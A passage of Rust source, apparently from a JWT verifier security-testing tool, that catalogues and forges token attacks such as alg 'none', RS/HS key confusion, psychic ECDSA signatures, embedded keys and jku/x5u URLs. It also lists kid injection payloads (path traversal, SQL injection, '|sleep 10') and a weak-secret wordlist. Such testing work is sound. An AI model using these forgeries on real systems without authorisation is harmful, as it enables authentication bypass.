//! Forgers: the JWT attack stimuli of spec §1.5 (and the structural rows of §1.4), produced
//! exactly as a well-behaved JOSE library would refuse to produce them.
//!
//! Attacks are data: [`Attack`] names each one with a description and its provenance (CVE,
//! bug type, jwt_tool mode); [`Attack::catalogue`] lists every instance; [`Attack::forge`]
//! builds it from a [`ForgeContext`] (the victim AS key, an attacker key, a listener URL and
//! the valid token spec `V`). Post-signing changes are [`Tamper`] steps, usable on their own
//! (`spec.mint_tampered(key, &[Tamper::StripSignature])` with [`TamperExt`]).
//!
//! Against a real authorization server there is no AS private key, only the tokens it issues
//! and its JWKS: [`Attack::derive`] builds the same stimuli from an [`IssuedToken`] (and its
//! published key) wherever the attack needs no signature by the AS, and
//! [`IssuedToken::edited`] changes one claim under the AS's original signature.
//!
//! No forger panics: an attack that does not fit the keys (an ECDSA attack on an RSA key, a
//! PKCS#1 PEM of an EC key, a `kid` attack on a key without `kid`) returns [`NotApplicable`].

pub mod cert;
mod derive;
mod tamper;
pub mod vectors;
pub mod weak_rsa;

pub use derive::{ClaimEdit, DeriveContext, IssuedToken, NotAJwt, opaque_variants};
pub use tamper::{Tamper, TamperExt, tamper, tamper_all};

use std::borrow::Cow;

use base64::Engine;
use serde_json::json;

use crate::alg::{Algorithm, EcCurve, KeyFamily};
use crate::der;
use crate::ecdsa;
use crate::json::JsonObject;
use crate::jwk::{Jwk, JwkKey};
use crate::jws::{self, ParseOptions, Segment};
use crate::keys::SigningKey;
use crate::token::TokenSpec;

/// What a forger works from, passed explicitly (no globals), so one process can forge for
/// several targets and issuers at once.
#[derive(Debug, Clone, Copy)]
pub struct ForgeContext<'a> {
    /// The AS key the target trusts; its `kid` is the victim kid (see [`Self::victim_kid`]).
    pub victim: &'a SigningKey,
    /// A key the target must not trust (e.g. the rogue issuer's).
    pub attacker: &'a SigningKey,
    /// A URL under the tool's control, for `jku`/`x5u`.
    pub listener_url: &'a str,
    /// The valid token `V` as a spec; forgers change only what their attack needs.
    pub spec: &'a TokenSpec,
}

impl ForgeContext<'_> {
    /// The `kid` the target knows the AS key by (attacks that reuse it need one).
    pub fn victim_kid(&self) -> Option<&str> {
        self.victim.kid()
    }
}

/// Why an attack does not apply to the given keys (the caller skips it, e.g. as "not
/// applicable to the IdP's key type").
#[derive(Debug, Clone, PartialEq, Eq, thiserror::Error)]
#[error("{attack} does not apply: {reason}")]
pub struct NotApplicable {
    /// [`Attack::name`] of the attack.
    pub attack: String,
    /// What the keys lack.
    pub reason: &'static str,
}

/// Where an attack comes from, for reports and tags.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub struct Provenance {
    /// CVEs of implementations that accepted this stimulus.
    pub cves: &'static [&'static str],
    /// The class of bug the stimulus detects.
    pub bug_type: &'static str,
    /// jwt_tool mode or other catalogue reference, when one exists.
    pub reference: &'static str,
}

/// Byte forms of a public key used as an HMAC secret (RS/HS confusion): a confused verifier
/// MACs with whatever bytes it stores the key as, so each form is a separate stimulus.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum PublicKeyForm {
    /// `-----BEGIN PUBLIC KEY-----` PEM (SPKI, LF line endings, trailing newline).
    SpkiPem,
    /// The same PEM without its trailing newline.
    SpkiPemNoTrailingNewline,
    /// RSA only: `-----BEGIN RSA PUBLIC KEY-----` (the RSAPublicKey from the SPKI BIT STRING).
    Pkcs1Pem,
    /// SubjectPublicKeyInfo DER.
    SpkiDer,
    /// The public JWK as compact JSON text (as published in the JWKS, `kid`/`alg`/`use` kept).
    JwkJson,
    /// RSA: the modulus `n`; EC: the uncompressed point `04‖x‖y`; Ed25519: `x`.
    Raw,
}

impl PublicKeyForm {
    /// Every form, in a stable order.
    pub const ALL: [PublicKeyForm; 6] = [
        PublicKeyForm::SpkiPem,
        PublicKeyForm::SpkiPemNoTrailingNewline,
        PublicKeyForm::Pkcs1Pem,
        PublicKeyForm::SpkiDer,
        PublicKeyForm::JwkJson,
        PublicKeyForm::Raw,
    ];
}

/// The SHA-2 hash of an HMAC JWS algorithm (RFC 7518 §3.2): a verifier confused about the
/// key type may take any of them, so the key-confusion stimuli come in each.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum HmacHash {
    /// HS256.
    Sha256,
    /// HS384.
    Sha384,
    /// HS512.
    Sha512,
}

impl HmacHash {
    /// Every hash, in a stable order.
    pub const ALL: [HmacHash; 3] = [HmacHash::Sha256, HmacHash::Sha384, HmacHash::Sha512];

    /// The `alg` value: `HS256`, `HS384`, `HS512`.
    pub fn alg(self) -> &'static str {
        match self {
            HmacHash::Sha256 => "HS256",
            HmacHash::Sha384 => "HS384",
            HmacHash::Sha512 => "HS512",
        }
    }

    /// Exact, case-sensitive lookup of an `alg` value.
    pub fn from_alg(alg: &str) -> Option<Self> {
        Self::ALL.into_iter().find(|h| h.alg() == alg)
    }

    fn algorithm(self) -> aws_lc_rs::hmac::Algorithm {
        match self {
            HmacHash::Sha256 => aws_lc_rs::hmac::HMAC_SHA256,
            HmacHash::Sha384 => aws_lc_rs::hmac::HMAC_SHA384,
            HmacHash::Sha512 => aws_lc_rs::hmac::HMAC_SHA512,
        }
    }

    /// The MAC of `input` under `secret`.
    pub fn mac(self, secret: &[u8], input: &[u8]) -> Vec<u8> {
        let key = aws_lc_rs::hmac::Key::new(self.algorithm(), secret);
        aws_lc_rs::hmac::sign(&key, input).as_ref().to_vec()
    }

    /// Whether `tag` is the MAC of `input` under `secret` (constant time).
    pub fn verify(self, secret: &[u8], input: &[u8], tag: &[u8]) -> bool {
        let key = aws_lc_rs::hmac::Key::new(self.algorithm(), secret);
        aws_lc_rs::hmac::verify(&key, input, tag).is_ok()
    }
}

/// Which ECDSA scalar an out-of-range forgery breaks, and how.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum ScalarDefect {
    /// r = 0, s from a valid signature.
    RIsZero,
    /// s = 0, r from a valid signature.
    SIsZero,
    /// r = n (the curve order), s from a valid signature.
    RIsOrder,
    /// s = n, r from a valid signature.
    SIsOrder,
}

/// `crit` forms (RFC 7515 §4.1.11), each validly signed by the victim.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum CritForm {
    /// `crit:["x-foo"]` with `x-foo:1`: an extension the verifier cannot understand.
    Unknown,
    /// `crit:[]`.
    Empty,
    /// `crit:["alg"]`: a registered parameter.
    Registered,
    /// `crit:["x-absent"]` without such a header.
    Absent,
}

/// Structural defects of the compact form (spec §1.4 rs-not-a-jwt and relatives).
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Structure {
    /// `=` padding added to the payload segment.
    Padding,
    /// `+`/`/` substituted for `-`/`_` in a segment that has one (decoded bytes unchanged).
    StandardAlphabet,
    /// A line break inside the payload segment.
    LineBreak,
    /// `header.payload`.
    TwoSegments,
    /// A fourth segment appended.
    FourSegments,
    /// The first half of the token.
    CutInHalf,
    /// `header..signature`.
    EmptyMiddleSegment,
    /// Flattened JWS JSON serialization, base64url-encoded (one segment).
    JwsJsonSerialization,
    /// A 5-part string shaped like a compact JWE with an unknown key.
    JweShaped,
    /// 32 random bytes, base64url.
    Random,
}

/// One JWT attack: plain data, so checks and reports can list, name and tag them.
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum Attack {
    /// `alg` set to a spelling of `none` in a valid token's header; the signature segment is
    /// emptied, or the original signature text is kept (payload text always kept).
    AlgNone {
        spelling: &'static str,
        keep_signature: bool,
    },
    /// `header.payload.` with the original `alg`.
    SignatureStripped,
    /// The last 4 signature characters changed.
    SignatureBroken,
    /// `alg` HS256, HS384 or HS512, MACed with the victim's public key bytes.
    HmacWithPublicKey { form: PublicKeyForm, hash: HmacHash },
    /// `alg: HS256` with an empty secret.
    HmacEmptySecret,
    /// `alg: HS256` with a guessable secret.
    HmacWeakSecret(&'static str),
    /// `alg: HS256` with caller-given secret bytes (e.g. a wordlist read at run time).
    HmacSecret(Vec<u8>),
    /// ECDSA r = s = 0, raw (64/96 zero bytes) or DER (`MAYCAQACAQA`).
    PsychicSignature { der: bool },
    /// ECDSA r or s outside [1, n−1].
    ScalarOutOfRange(ScalarDefect),
    /// A valid signature with s replaced by n − s.
    HighS,
    /// The valid signature DER-encoded instead of R‖S.
    DerSignature,
    /// The valid signature cut to 63 bytes.
    SignatureTruncated,
    /// The valid signature plus 16 trailing bytes.
    SignatureTrailingBytes,
    /// An ES384-sized (96 byte) signature on an ES256 token.
    SignatureWrongCurveSize,
    /// Header `jwk` = attacker key, signed by it; `kid` removed or set to the victim's.
    EmbeddedJwk { keep_victim_kid: bool },
    /// Header `jku` = listener URL, signed by the attacker key with its kid.
    Jku,
    /// Header `x5u` = listener URL, signed by the attacker key with its kid.
    X5u,
    /// Header `jku` = the given URL (e.g. the victim's own JWKS), signed by the attacker key
    /// with its kid: a verifier that allow-lists `jku` must still verify with its own keys.
    /// Parametrized, so not in [`Attack::catalogue`].
    JkuAt(String),
    /// `V`'s claims re-signed by the attacker key under its `alg`; `kid` that of the attacker
    /// key (which the target does not know) or the victim's (the key it names does not verify).
    Resigned { keep_victim_kid: bool },
    /// `V`'s claims with `iss` = the given issuer (one the tool hosts, publishing the attacker
    /// key), signed by the attacker key with its kid. Parametrized, so not in
    /// [`Attack::catalogue`].
    RogueIssuer(String),
    /// Header `x5c` = a self-signed certificate for the attacker key ([`cert::self_signed`]),
    /// signed by it with its kid.
    X5c,
    /// A hostile `kid`, HS256 with the given secret.
    KidInjection {
        kid: &'static str,
        secret: &'static [u8],
    },
    /// Malformed or unknown `crit`, validly signed by the victim.
    Crit(CritForm),
    /// The victim's `kid` with `alg: HS256` (MACed with its SPKI PEM).
    KidWithHmac,
    /// The victim's `kid` with an algorithm of another key type, signed by the attacker.
    KidWithOtherKeyType,
    /// RS256 ↔ PS256 with the same RSA key.
    RsaFamilySwitch,
    /// Validly signed by the victim under its own `alg`, but with `kid` naming another key
    /// (of another key type or curve) of the same issuer: the kid must bind the key.
    /// Parametrized, so not in [`Attack::catalogue`].
    ForeignKid(String),
    /// ECDSA: header `alg` names the other curve's algorithm (ES256 ↔ ES384), the signature is
    /// the victim's own: `alg` binds the curve.
    CurveRelabeled,
    /// ECDSA: `alg` unchanged, the signature is over the SHA-256 digest on P-384 (over the
    /// SHA-384 digest, truncated, on P-256): `alg` binds the hash.
    EcdsaWrongHash,
    /// Header `{"alg":<victim alg>,…,"alg":"none"}` with an empty signature; the payload text
    /// of a valid token kept.
    DuplicateAlgNone,
    /// Claims with `aud` twice: the right audience, then another; validly signed.
    DuplicateAud { other: &'static str },
    /// A compact-form defect.
    Malformed(Structure),
    /// An outer JWS signed by the attacker (`cty: JWT`) around a valid token.
    NestedAttackerOuter,
    /// An outer JWS signed by the victim around an unsigned inner token.
    NestedUnsignedInner,
}

/// `kid` injection payloads and the HMAC secret each is MACed with (jwt_tool playbook; spec
/// rs-kid-injection): what the file or row the `kid` selects would hold.
pub const KID_INJECTIONS: [(&str, &[u8]); 8] = [
    ("", b""),
    ("../../../../../../dev/null", b""),
    ("../../../../../../dev/null", b"\0"),
    ("/dev/null", b""),
    ("/dev/null", b"\0"),
    ("x' UNION SELECT '1';--", b"1"),
    ("|sleep 10", b""),
    ("/invalid_path", b""),
];

/// The first entries of a common-secret wordlist (rs-weak-hmac-secret).
pub const WEAK_SECRETS: [&str; 6] = ["secret", "password", "123456", "changeme", "jwt", "key"];

impl Attack {
    /// Every attack instance, in a stable order.
    pub fn catalogue() -> Vec<Attack> {
        let mut all = Vec::new();
        for spelling in ["none", "None", "NONE", "nOnE"] {
            for keep_signature in [false, true] {
                all.push(Attack::AlgNone {
                    spelling,
                    keep_signature,
                });
            }
        }
        all.extend([Attack::SignatureStripped, Attack::SignatureBroken]);
        for hash in HmacHash::ALL {
            all.extend(PublicKeyForm::ALL.map(|form| Attack::HmacWithPublicKey { form, hash }));
        }
        all.push(Attack::HmacEmptySecret);
        all.extend(WEAK_SECRETS.map(Attack::HmacWeakSecret));
        all.extend([
            Attack::PsychicSignature { der: false },
            Attack::PsychicSignature { der: true },
        ]);
        all.extend(
            [
                ScalarDefect::RIsZero,
                ScalarDefect::SIsZero,
                ScalarDefect::RIsOrder,
                ScalarDefect::SIsOrder,
            ]
            .map(Attack::ScalarOutOfRange),
        );
        all.extend([
            Attack::HighS,
            Attack::DerSignature,
            Attack::SignatureTruncated,
            Attack::SignatureTrailingBytes,
            Attack::SignatureWrongCurveSize,
            Attack::EmbeddedJwk {
                keep_victim_kid: false,
            },
            Attack::EmbeddedJwk {
                keep_victim_kid: true,
            },
            Attack::Resigned {
                keep_victim_kid: false,
            },
            Attack::Resigned {
                keep_victim_kid: true,
            },
            Attack::Jku,
            Attack::X5u,
            Attack::X5c,
        ]);
        all.extend(
            KID_INJECTIONS
                .iter()
                .map(|&(kid, secret)| Attack::KidInjection { kid, secret }),
        );
        all.extend(
            [
                CritForm::Unknown,
                CritForm::Empty,
                CritForm::Registered,
                CritForm::Absent,
            ]
            .map(Attack::Crit),
        );
        all.extend([
            Attack::KidWithHmac,
            Attack::KidWithOtherKeyType,
            Attack::RsaFamilySwitch,
            Attack::CurveRelabeled,
            Attack::EcdsaWrongHash,
            Attack::DuplicateAlgNone,
            Attack::DuplicateAud {
                other: "https://other.test/mcp",
            },
        ]);
        all.extend(
            [
                Structure::Padding,
                Structure::StandardAlphabet,
                Structure::LineBreak,
                Structure::TwoSegments,
                Structure::FourSegments,
                Structure::CutInHalf,
                Structure::EmptyMiddleSegment,
                Structure::JwsJsonSerialization,
                Structure::JweShaped,
                Structure::Random,
            ]
            .map(Attack::Malformed),
        );
        all.extend([Attack::NestedAttackerOuter, Attack::NestedUnsignedInner]);
        all
    }

    /// A short stable name, e.g. `alg-none-NONE-kept-sig`.
    pub fn name(&self) -> String {
        match self {
            Attack::AlgNone {
                spelling,
                keep_signature,
            } => format!(
                "alg-{spelling}-{}",
                if *keep_signature {
                    "kept-sig"
                } else {
                    "empty-sig"
                }
            ),
            Attack::SignatureStripped => "signature-stripped".into(),
            Attack::SignatureBroken => "signature-broken".into(),
            Attack::HmacWithPublicKey { form, hash } => {
                format!("{}-public-key-{form:?}", hash.alg().to_ascii_lowercase())
            }
            Attack::HmacEmptySecret => "hs256-empty-secret".into(),
            Attack::HmacWeakSecret(s) => format!("hs256-weak-secret-{s}"),
            Attack::HmacSecret(s) => format!("hs256-secret-{}", String::from_utf8_lossy(s)),
            Attack::PsychicSignature { der } => {
                format!("psychic-signature{}", if *der { "-der" } else { "" })
            }
            Attack::ScalarOutOfRange(d) => format!("ecdsa-{d:?}"),
            Attack::HighS => "ecdsa-high-s".into(),
            Attack::DerSignature => "ecdsa-der".into(),
            Attack::SignatureTruncated => "signature-truncated".into(),
            Attack::SignatureTrailingBytes => "signature-trailing-bytes".into(),
            Attack::SignatureWrongCurveSize => "signature-wrong-curve-size".into(),
            Attack::EmbeddedJwk { keep_victim_kid } => format!(
                "embedded-jwk{}",
                if *keep_victim_kid {
                    "-victim-kid"
                } else {
                    "-no-kid"
                }
            ),
            Attack::Resigned { keep_victim_kid } => format!(
                "resigned{}",
                if *keep_victim_kid {
                    "-victim-kid"
                } else {
                    "-attacker-kid"
                }
            ),
            Attack::RogueIssuer(iss) => format!("rogue-issuer-{iss}"),
            Attack::Jku => "jku".into(),
            Attack::X5u => "x5u".into(),
            Attack::JkuAt(url) => format!("jku-at-{url}"),
            Attack::X5c => "x5c".into(),
            Attack::KidInjection { kid, secret } => format!("kid-injection-{kid:?}-{secret:?}"),
            Attack::Crit(form) => format!("crit-{form:?}"),
            Attack::KidWithHmac => "kid-with-hs256".into(),
            Attack::KidWithOtherKeyType => "kid-with-other-key-type".into(),
            Attack::RsaFamilySwitch => "rsa-family-switch".into(),
            Attack::ForeignKid(kid) => format!("foreign-kid-{kid}"),
            Attack::CurveRelabeled => "ecdsa-curve-relabeled".into(),
            Attack::EcdsaWrongHash => "ecdsa-wrong-hash".into(),
            Attack::DuplicateAlgNone => "duplicate-alg-none".into(),
            Attack::DuplicateAud { .. } => "duplicate-aud".into(),
            Attack::Malformed(s) => format!("malformed-{s:?}"),
            Attack::NestedAttackerOuter => "nested-attacker-outer".into(),
            Attack::NestedUnsignedInner => "nested-unsigned-inner".into(),
        }
    }

    /// Where the attack comes from.
    pub fn provenance(&self) -> Provenance {
        let p = |cves, bug_type, reference| Provenance {
            cves,
            bug_type,
            reference,
        };
        match self {
            Attack::AlgNone { .. } | Attack::DuplicateAlgNone => p(
                &["CVE-2015-2951"],
                "unsigned token accepted",
                "jwt_tool -X a",
            ),
            Attack::SignatureStripped => p(
                &["CVE-2020-28042"],
                "null signature accepted",
                "jwt_tool -X n",
            ),
            Attack::SignatureBroken => p(&[], "signature not checked", "jwt_tool playbook"),
            Attack::HmacWithPublicKey { .. } | Attack::KidWithHmac => p(
                &["CVE-2016-10555"],
                "algorithm confusion (RS/HS)",
                "jwt_tool -X k",
            ),
            Attack::HmacEmptySecret => p(
                &["CVE-2019-20933", "CVE-2020-28637"],
                "blank HMAC secret",
                "jwt_tool -X b",
            ),
            Attack::HmacWeakSecret(_) | Attack::HmacSecret(_) => {
                p(&[], "weak HMAC secret", "jwt_tool jwt-common.txt")
            }
            Attack::PsychicSignature { .. } | Attack::ScalarOutOfRange(_) => p(
                &["CVE-2022-21449"],
                "ECDSA range check missing",
                "SEC1 §4.1.4",
            ),
            Attack::HighS => p(&[], "ECDSA malleability", "RFC 7518 §3.4"),
            Attack::DerSignature
            | Attack::SignatureTruncated
            | Attack::SignatureTrailingBytes
            | Attack::SignatureWrongCurveSize => {
                p(&[], "ECDSA signature encoding", "RFC 7518 §3.4")
            }
            Attack::EmbeddedJwk { .. } => {
                p(&["CVE-2018-0114"], "header key trusted", "jwt_tool -X i")
            }
            Attack::Jku | Attack::X5u | Attack::JkuAt(_) => {
                p(&[], "header key URL trusted (SSRF)", "jwt_tool -X s")
            }
            Attack::X5c => p(&[], "header certificate trusted", "RFC 7515 §4.1.6"),
            Attack::Resigned { .. } => p(&[], "issuer/key mix-up", "RFC 8725 §3.8"),
            Attack::RogueIssuer(_) => p(&[], "untrusted issuer accepted", "RFC 9068 §4"),
            Attack::KidInjection { .. } => p(&[], "kid injection", "jwt_tool playbook"),
            Attack::Crit(_) => p(&[], "crit not enforced", "RFC 7515 §4.1.11"),
            Attack::KidWithOtherKeyType | Attack::RsaFamilySwitch | Attack::ForeignKid(_) => {
                p(&[], "one key, several algorithms", "RFC 8725 §3.1")
            }
            Attack::CurveRelabeled | Attack::EcdsaWrongHash => {
                p(&[], "alg does not bind curve and hash", "RFC 7518 §3.4")
            }
            Attack::DuplicateAud { .. } => {
                p(&[], "duplicate member parser differential", "RFC 7519 §4")
            }
            Attack::Malformed(_) => p(&[], "lenient compact parsing", "RFC 7515 §7.1"),
            Attack::NestedAttackerOuter | Attack::NestedUnsignedInner => {
                p(&[], "nested JWT layer unchecked", "RFC 8725 §3.3")
            }
        }
    }

    /// One line saying what the forged token is, for reports.
    pub fn description(&self) -> String {
        match self {
            Attack::AlgNone {
                spelling,
                keep_signature,
            } => format!(
                "alg set to {spelling:?}, {}",
                if *keep_signature {
                    "original signature kept"
                } else {
                    "signature segment empty"
                }
            ),
            Attack::SignatureStripped => "header.payload. with the original alg kept".into(),
            Attack::SignatureBroken => "last 4 signature characters changed".into(),
            Attack::HmacWithPublicKey { form, hash } => format!(
                "alg {}, MACed with the AS public key as {form:?} bytes",
                hash.alg()
            ),
            Attack::HmacEmptySecret => "alg HS256, MACed with an empty secret".into(),
            Attack::HmacWeakSecret(s) => format!("alg HS256, MACed with the secret {s:?}"),
            Attack::HmacSecret(s) => format!(
                "alg HS256, MACed with the secret {:?}",
                String::from_utf8_lossy(s)
            ),
            Attack::PsychicSignature { der: false } => "ECDSA r = s = 0 as zero bytes".into(),
            Attack::PsychicSignature { der: true } => "ECDSA r = s = 0 as DER MAYCAQACAQA".into(),
            Attack::ScalarOutOfRange(d) => format!("ECDSA scalar out of [1, n-1]: {d:?}"),
            Attack::HighS => "valid ECDSA signature with s replaced by n - s".into(),
            Attack::DerSignature => "valid ECDSA signature DER-encoded instead of R||S".into(),
            Attack::SignatureTruncated => "ECDSA signature cut to 63 bytes".into(),
            Attack::SignatureTrailingBytes => "valid signature plus 16 trailing bytes".into(),
            Attack::SignatureWrongCurveSize => "96-byte (ES384-sized) signature on ES256".into(),
            Attack::EmbeddedJwk { keep_victim_kid } => format!(
                "header jwk = attacker key, signed by it, kid {}",
                if *keep_victim_kid {
                    "of the victim"
                } else {
                    "removed"
                }
            ),
            Attack::Resigned { keep_victim_kid } => format!(
                "V's claims re-signed by the attacker key, kid {}",
                if *keep_victim_kid {
                    "of the victim"
                } else {
                    "of the attacker key"
                }
            ),
            Attack::RogueIssuer(iss) => format!(
                "V's claims with iss {iss:?} (an issuer publishing the attacker key), signed by \
                 that key"
            ),
            Attack::Jku => "header jku = listener URL, signed by the attacker key".into(),
            Attack::X5u => "header x5u = listener URL, signed by the attacker key".into(),
            Attack::JkuAt(url) => format!("header jku = {url}, signed by the attacker key"),
            Attack::X5c => {
                "header x5c = a self-signed certificate for the attacker key, signed by it".into()
            }
            Attack::KidInjection { kid, secret } => {
                format!("kid {kid:?}, alg HS256 MACed with {secret:?}")
            }
            Attack::Crit(form) => format!("crit {form:?}, validly signed"),
            Attack::KidWithHmac => "victim kid with alg HS256 (MACed with its SPKI PEM)".into(),
            Attack::KidWithOtherKeyType => {
                "victim kid with an algorithm of another key type".into()
            }
            Attack::RsaFamilySwitch => "RS256 <-> PS256 signed with the same RSA key".into(),
            Attack::ForeignKid(kid) => {
                format!("validly signed by the victim key, with kid {kid:?} naming another key")
            }
            Attack::CurveRelabeled => {
                "ECDSA alg of the other curve (ES256 <-> ES384), the victim's own signature".into()
            }
            Attack::EcdsaWrongHash => {
                "ECDSA alg unchanged, signed over SHA-256 on P-384 (SHA-384 on P-256)".into()
            }
            Attack::DuplicateAlgNone => "header alg twice, the last one none; no signature".into(),
            Attack::DuplicateAud { other } => {
                format!("aud twice, the last one {other:?}; validly signed")
            }
            Attack::Malformed(s) => format!("compact form defect: {s:?}"),
            Attack::NestedAttackerOuter => {
                "outer JWS (cty JWT) signed by the attacker around a valid token".into()
            }
            Attack::NestedUnsignedInner => {
                "outer valid JWS (cty JWT) around an unsigned inner token".into()
            }
        }
    }

    fn not_applicable(&self, reason: &'static str) -> NotApplicable {
        NotApplicable {
            attack: self.name(),
            reason,
        }
    }

    /// Builds the forged token. Untouched parts of the valid token keep their exact text.
    /// Returns [`NotApplicable`] when the keys do not fit the attack (never panics).
    pub fn forge(&self, ctx: &ForgeContext) -> Result<String, NotApplicable> {
        self.build(
            &Victim::minted(ctx.victim, ctx.spec),
            ctx.attacker,
            ctx.listener_url,
        )
    }

    /// The per-variant forgers behind [`Self::forge`] and [`Self::derive`]: everything they
    /// know of the victim is in `victim`, so one logic serves a minted and an issued `V`.
    fn build(
        &self,
        victim: &Victim,
        attacker: &SigningKey,
        listener_url: &str,
    ) -> Result<String, NotApplicable> {
        let valid = || (victim.valid)();
        let spec = victim.spec.as_ref();
        let signer = || {
            victim
                .signer
                .ok_or_else(|| self.not_applicable(NEEDS_SIGNING_KEY))
        };
        let public_jwk = || {
            victim
                .public_jwk
                .as_deref()
                .ok_or_else(|| self.not_applicable(NEEDS_PUBLISHED_KEY))
        };
        let ec_curve = || match victim.alg.map(Algorithm::key_family) {
            Some(KeyFamily::Ec(c)) => Ok(c),
            _ => Err(self.not_applicable("needs an ECDSA victim key")),
        };
        let victim_kid = || {
            victim
                .kid
                .ok_or_else(|| self.not_applicable("needs a victim key with a kid"))
        };
        // HMAC over V's claims with `secret`, under the victim's kid when it has one.
        let hmac_with = |hash: HmacHash, secret: &[u8]| {
            let key = SigningKey::hmac(secret);
            let key = match victim.kid {
                Some(kid) => key.with_kid(kid),
                None => key,
            };
            let unsigned = spec.clone().alg(hash.alg()).unsigned(&key);
            let mac = hash.mac(secret, unsigned.trim_end_matches('.').as_bytes());
            tamper(&unsigned, &Tamper::SetSignature(mac))
        };
        let hmac = |secret: &[u8]| hmac_with(HmacHash::Sha256, secret);
        // The valid token's header with `alg` replaced in place.
        let header_with_alg = |alg: &str| {
            let mut header = victim.header.clone();
            header.set("alg", alg);
            header
        };
        Ok(match self {
            Attack::AlgNone {
                spelling,
                keep_signature,
            } => {
                let token = tamper(&valid(), &Tamper::ReplaceHeader(header_with_alg(spelling)));
                if *keep_signature {
                    token
                } else {
                    tamper(&token, &Tamper::StripSignature)
                }
            }
            Attack::SignatureStripped => tamper(&valid(), &Tamper::StripSignature),
            Attack::SignatureBroken => tamper(&valid(), &Tamper::BreakSignature),
            Attack::HmacWithPublicKey { form, hash } => {
                let secret = public_jwk_bytes(public_jwk()?, *form).ok_or_else(|| {
                    self.not_applicable("this byte form does not exist for the key type")
                })?;
                hmac_with(*hash, &secret)
            }
            Attack::HmacEmptySecret => hmac(b""),
            Attack::HmacWeakSecret(secret) => hmac(secret.as_bytes()),
            Attack::HmacSecret(secret) => hmac(secret),
            Attack::PsychicSignature { der } => {
                let zeros = vec![0u8; 2 * ec_curve()?.coordinate_len()];
                let sig = if *der {
                    ecdsa::raw_to_der(&zeros)
                } else {
                    zeros
                };
                tamper(&valid(), &Tamper::SetSignature(sig))
            }
            Attack::ScalarOutOfRange(defect) => {
                let curve = ec_curve()?;
                let len = curve.coordinate_len();
                let token = valid();
                let sig = jws::Jws::parse_with(&token, &ParseOptions::lenient())
                    .ok()
                    .map(|j| j.signature().to_vec())
                    .filter(|sig| sig.len() == 2 * len)
                    .ok_or_else(|| self.not_applicable("the valid token is not readable"))?;
                let (r, s) = sig.split_at(len);
                let n = ecdsa::curve_order(curve);
                let zero = vec![0u8; len];
                let forged = match defect {
                    ScalarDefect::RIsZero => [zero.as_slice(), s].concat(),
                    ScalarDefect::SIsZero => [r, zero.as_slice()].concat(),
                    ScalarDefect::RIsOrder => [n.as_slice(), s].concat(),
                    ScalarDefect::SIsOrder => [r, n.as_slice()].concat(),
                };
                tamper(&token, &Tamper::SetSignature(forged))
            }
            Attack::HighS => tamper(&valid(), &Tamper::FlipS(ec_curve()?)),
            Attack::DerSignature => {
                ec_curve()?;
                tamper(&valid(), &Tamper::DerSignature)
            }
            Attack::SignatureTruncated => {
                ec_curve()?;
                tamper(&valid(), &Tamper::TruncateSignature(63))
            }
            Attack::SignatureTrailingBytes => {
                tamper(&valid(), &Tamper::AppendToSignature(vec![0xA5; 16]))
            }
            Attack::SignatureWrongCurveSize => {
                if ec_curve()? != EcCurve::P256 {
                    return Err(self.not_applicable("needs an ES256 victim key"));
                }
                tamper(&valid(), &Tamper::AppendToSignature(vec![0x01; 32]))
            }
            Attack::EmbeddedJwk { keep_victim_kid } => {
                let spec = spec.clone().jwk(&attacker.public_jwk());
                let spec = if *keep_victim_kid {
                    spec.kid(victim_kid()?)
                } else {
                    spec.without_header("kid")
                };
                spec.mint(attacker)
            }
            Attack::Resigned { keep_victim_kid } => {
                if *keep_victim_kid {
                    spec.clone().kid(victim_kid()?).mint(attacker)
                } else {
                    spec.mint(attacker)
                }
            }
            Attack::RogueIssuer(iss) => spec.clone().iss(iss).mint(attacker),
            Attack::Jku => spec.clone().jku(listener_url).mint(attacker),
            Attack::X5u => spec.clone().x5u(listener_url).mint(attacker),
            Attack::JkuAt(url) => spec.clone().jku(url).mint(attacker),
            Attack::X5c => {
                let der = cert::self_signed(attacker).ok_or_else(|| {
                    self.not_applicable("no X.509 certificate for the attacker key type")
                })?;
                let x5c = json!([base64::engine::general_purpose::STANDARD.encode(der)]);
                spec.clone().header("x5c", x5c).mint(attacker)
            }
            Attack::KidInjection { kid, secret } => spec
                .clone()
                .alg("HS256")
                .kid(kid)
                .mint(&SigningKey::hmac(secret)),
            Attack::Crit(form) => {
                let key = signer()?;
                let spec = spec.clone();
                let spec = match form {
                    CritForm::Unknown => spec.crit(&["x-foo"]).header("x-foo", 1),
                    CritForm::Empty => spec.crit(&[]),
                    CritForm::Registered => spec.crit(&["alg"]),
                    CritForm::Absent => spec.crit(&["x-absent"]),
                };
                spec.mint(key)
            }
            Attack::KidWithHmac => {
                let jwk = public_jwk()?;
                victim_kid()?;
                let secret = public_jwk_bytes(jwk, PublicKeyForm::SpkiPem)
                    .ok_or_else(|| self.not_applicable("needs an asymmetric victim key"))?;
                hmac(&secret)
            }
            Attack::KidWithOtherKeyType => {
                let family = victim
                    .family()
                    .ok_or_else(|| self.not_applicable("needs to know the victim key type"))?;
                if attacker.alg().key_family() == family {
                    return Err(self.not_applicable("needs an attacker key of another key type"));
                }
                spec.clone().kid(victim_kid()?).mint(attacker)
            }
            Attack::RsaFamilySwitch => {
                let key = signer()?;
                let other = match key.alg() {
                    Algorithm::Rs256 => "PS256",
                    Algorithm::Ps256 => "RS256",
                    _ => return Err(self.not_applicable("needs an RSA victim key")),
                };
                spec.clone().alg(other).mint(key)
            }
            Attack::ForeignKid(kid) => spec.clone().kid(kid).mint(signer()?),
            Attack::CurveRelabeled => {
                let key = signer()?;
                let other = match ec_curve()? {
                    EcCurve::P256 => "ES384",
                    EcCurve::P384 => "ES256",
                    EcCurve::P521 => return Err(self.not_applicable("needs a P-256 or P-384 key")),
                };
                // Signed over the relabeled header: only the label lies.
                jws::sign_raw(
                    &header_with_alg(other).to_bytes(),
                    &spec.claims_json().to_bytes(),
                    key,
                )
            }
            Attack::EcdsaWrongHash => {
                let key = signer()?;
                let curve = ec_curve()?;
                let unsigned = spec.unsigned(key);
                let input = unsigned.trim_end_matches('.');
                let sig = ecdsa_over_other_hash(key, curve, input.as_bytes())
                    .ok_or_else(|| self.not_applicable("needs a P-256 or P-384 key"))?;
                tamper(&unsigned, &Tamper::SetSignature(sig))
            }
